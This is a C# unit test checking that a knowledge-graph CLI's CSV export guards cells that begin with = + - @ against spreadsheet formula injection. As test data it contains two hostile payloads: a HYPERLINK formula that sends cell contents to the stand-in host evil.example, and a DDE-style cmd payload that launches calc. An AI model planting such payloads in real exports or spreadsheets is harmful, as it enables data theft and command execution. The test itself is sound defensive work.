using System.Text;
using KnowledgeGraph.Cli.Tests.Support;

namespace KnowledgeGraph.Cli.Tests.Output;

/// <summary>
/// CSV from <c>kg meetings</c> and <c>kg entities</c> is opened in spreadsheets: a cell that starts with = + - @ gets a
/// leading apostrophe (CsvOptions.ForPeople), so a name planted in an article cannot become a formula.
/// </summary>
[Collection(CliCollection.Name)]
public sealed class SpreadsheetGuardTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Jens\")";

    [Theory]
    [InlineData("meetings")]
    [InlineData("entities")]
    public async Task Query_CsvWithFormulaLikeNames_GuardsEveryCell(string command)
    {
        // Arrange: the seed graph with hostile names in place of two people.
        using var t = new TempDir();
        var json = await File.ReadAllTextAsync(Path.Combine(Repo.Root, "graph-exports", "graph.json"));
        json = json.Replace("\"name\":\"Jens Stoltenberg\"", "\"name\":" + System.Text.Json.JsonSerializer.Serialize(Formula), StringComparison.Ordinal)
            .Replace("\"name\":\"Lloyd J. Austin III\"", "\"name\":\"@SUM(1+1)*cmd|' /C calc'!A0\"", StringComparison.Ordinal);
        t.Write("g/graph.json", json);

        // Act
        var run = await Kg.RunAsync(command, t["g"], "--format", "csv");

        // Assert
        Assert.True(run.ExitCode == 0, run.ToString());
        var cells = ParseCsv(run.Stdout).SelectMany(r => r).ToList();
        Assert.Contains("'" + Formula, cells);
        Assert.Contains("'@SUM(1+1)*cmd|' /C calc'!A0", cells);
        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@');
    }

    private static List<List<string>> ParseCsv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                    (cell, i) = (cell.Append('"'), i + 1);
                else if (c == '"')
                    quoted = false;
                else
                    cell.Append(c);
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\n')
            {
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add(row);
                row = [];
            }
            else if (c != '\r')
            {
                cell.Append(c);
            }
        }
        return rows;
    }
}
